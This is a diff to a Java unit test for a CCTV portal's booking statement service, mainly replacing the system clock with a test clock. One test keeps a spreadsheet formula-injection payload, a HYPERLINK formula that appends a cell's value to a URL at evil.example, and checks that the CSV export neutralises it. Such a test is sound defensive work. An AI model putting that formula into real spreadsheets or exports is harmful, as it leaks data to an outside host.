@@ -20,6 +20,7 @@ import java.util.List;
 import java.util.function.Supplier;
 import org.cctvportal.platform.tenancy.UnattendedWork;
 import org.cctvportal.support.DemoUsers;
+import org.cctvportal.support.TestClock;
 import org.junit.jupiter.api.Test;
 
 /**
@@ -51,7 +52,7 @@ class StatementServiceTest {
     @Test
     void aMonthsStatementAddsUpTheDeliveredHoursOfTheApprovedBookings() {
         long hub = hub("tv-ods", 4, 5);
-        YearMonth month = YearMonth.now().minusMonths(4);
+        YearMonth month = TestClock.thisMonth().minusMonths(4);
         LocalDate first = month.atDay(1);
         LocalDate last = month.atEndOfMonth();
         long nights = as("tv-milton-keynes", () -> bookings.request(new BookingRequest(hub, "Statement nights", 7,
@@ -105,7 +106,7 @@ class StatementServiceTest {
     @Test
     void theStatementsCsvNeutralisesACameraGroupTypedAsAFormula() {
         long hub = hub("tv-ods", 4, 5);
-        YearMonth month = YearMonth.now().minusMonths(5);
+        YearMonth month = TestClock.thisMonth().minusMonths(5);
         String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
         long booking = as("tv-milton-keynes", () -> bookings.request(new BookingRequest(hub, formula, 2,
                 Booking.Recurrence.WEEKLY, null, null, EnumSet.of(DayOfWeek.SATURDAY), LocalTime.of(20, 0),
